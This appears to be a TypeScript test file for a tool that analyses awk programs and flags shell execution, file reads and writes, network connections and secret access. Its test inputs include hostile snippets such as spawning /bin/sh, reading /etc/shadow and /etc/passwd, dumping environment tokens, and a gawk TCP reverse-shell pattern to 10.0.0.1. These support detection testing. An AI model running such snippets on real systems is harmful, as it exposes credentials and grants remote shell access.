import assert from 'node:assert/strict';
import test from 'node:test';
import { describeReading } from './testing/describe-reading.ts';

test('understands programs that only filter', () => {
  const cases: readonly (readonly [string, string])[] = [
    ['{print $1}', 'ok'],
    ['$3>=1000{print $1}', 'ok'],
    ['NR%3==1', 'ok'],
    ['{s+=$1} END {print s}', 'ok'],
    ['NR==FNR{m[$1]=$2" "$3; next} {print $0, m[$1]}', 'ok'],
    ['/Model name/ {gsub(/^[ \\t]+/, "", $2); print $2; exit}', 'ok'],
    ['!seen[$1]++', 'ok'],
    ['{print substr($5, 1, length($5)-1)}', 'ok'],
    ['{ if ($1 > 5) print $1 }', 'ok'],
    ['{print ($1 > 2)}', 'ok'],
    ['{print $1/$2, $3/2}', 'ok'],
    ['$0 !~ last "/" {print last} {last=$0} END {print last}', 'ok'],
    ['BEGIN { RS="\\0"; ORS="\\0"; FS="" } NR > 5 { sub("^[0-9]*(.[0-9]*)? ", ""); print }', 'ok'],
    ['function f(x){return x*2} {print f($1)}', 'ok'],
    ['{printf "%s\\n", $0 > "/dev/stderr"}', 'ok'],
    ['1 { for (i=NF; i>0; i--) printf "%s ", $i; print "" }', 'ok'],
    ['BEGIN{print ENVIRON["HOME"]}', 'ok'],
    ['while ((getline line) > 0) n++', 'ok'],
    ['BEGIN{x=@/a/; if ($0 ~ x) print}', 'ok'],
    ['/[^]a]/', 'ok'],
    ['/[]a]/ {print} /[[:space:]]+/', 'ok'],
    ['{while((getline l < FILENAME)>0) print l}', 'ok'],
    ['BEGIN{while((getline l < ARGV[1])>0) print l}', 'ok'],
    ['BEGIN{for (i in ARGV) print ARGV[i]; print "a", ARGV[1]}', 'ok'],
  ];
  for (const [code, expected] of cases) assert.equal(describeReading('awk', code), expected, code);
});

test('notes what is run, read, written and connected to', () => {
  const cases: readonly (readonly [string, string])[] = [
    ['BEGIN {system("/bin/sh")}', 'ok shell=/bin/sh'],
    ['BEGIN {c = "id"; system(c)}', 'ok shell=id shell=?'],
    ['{system("rm " $1)}', 'ok shell=?'],
    ['{print | "sort -u"}', 'ok shell=sort -u'],
    ['"date" | getline d', 'ok shell=date'],
    ['BEGIN{"id" "x" | getline; print}', 'ok shell=?'],
    ['BEGIN { print "DATA" > "/path/x" }', 'ok write=/path/x'],
    ['{print >> "log"; close("log")}', 'ok write=log'],
    ['{print > $1".txt"}', 'ok write=?'],
    ['{print $1,\n$2 > "out"}', 'ok write=out'],
    ['BEGIN{while((getline l < "/etc/passwd")>0) print l}', 'ok read=/etc/passwd'],
    ['{while ((getline l < $1) > 0) print l}', 'ok read=?'],
    ['BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; printf "shell>" |& s; s |& getline c}', 'ok connect=10.0.0.1'],
    ['BEGIN{print ENVIRON["API_TOKEN"]}', 'ok secret=API_TOKEN'],
    ['BEGIN{for (k in ENVIRON) print k, ENVIRON[k]}', 'ok secret=? secret=?'],
    ['BEGIN{ARGV[1]="/etc/shadow"; ARGC=2}', 'ok read=/etc/shadow'],
    ['{if (1) /"/; system("id") ; "/"}', 'ok shell=id'],
    ['BEGIN{s = "/inet/tcp/" p "/h/80"; s |& getline}', 'ok connect=? shell=?'],
    ['BEGIN{system(1)}', 'ok shell=?'],
    ['"HOME" in ENVIRON', 'ok secret=?'],
    ['{print $1 printf "x" > "y"}', 'ok write=y'],
    ['{print $1\nprint $2 > "a"}', 'ok write=a'],
    ['system', 'ok shell=?'],
  ];
  for (const [code, expected] of cases) assert.equal(describeReading('awk', code), expected, code);
});

test('does not understand what cannot be seen', () => {
  const cases: readonly (readonly [string, string])[] = [
    ['BEGIN{x="sys" "tem"; @x("id")}', 'no'],
    ['@load "filefuncs"', 'no'],
    ['BEGIN{frobnicate(1)}', 'no'],
    ['{print "a', 'no'],
    ['getline /x/', 'no'],
    ['/[a/]/', 'no'],
    ['/a\n/', 'no'],
    ['BEGIN{ENVIRON["PATH"]="b"}', 'no'],
    ['BEGIN{ENVIRON["PATH"]=ENVIRON["PATH"] ":/tmp"}', 'no'],
    ['BEGIN{ARGV[1', 'no'],
    [')', 'no'],
    ['"x" | getline) function', 'no shell=x'],
  ];
  for (const [code, expected] of cases) assert.equal(describeReading('awk', code), expected, code);
});

test('takes what the program does to its own operands for files that are read', () => {
  const cases: readonly (readonly [string, string])[] = [
    ['BEGIN{FILENAME="/etc/shadow"; while((getline l < FILENAME)>0) print l}', 'ok read=/etc/shadow read=?'],
    ['BEGIN{ARGV[1]="a" b}', 'ok read=?'],
    ['BEGIN{ARGV[1]+=1}', 'ok read=?'],
    ['BEGIN{sub(/x/, "/etc/shadow", ARGV[1])}', 'ok read=?'],
    ['BEGIN{"x" | getline ARGV[1]}', 'ok shell=x read=?'],
    ['BEGIN{split("/etc/shadow", ARGV); ARGC=2}', 'no'],
    ['BEGIN{split("/etc/shadow", ARGV); for (i in ARGV) print i}', 'no'],
  ];
  for (const [code, expected] of cases) assert.equal(describeReading('awk', code), expected, code);
});
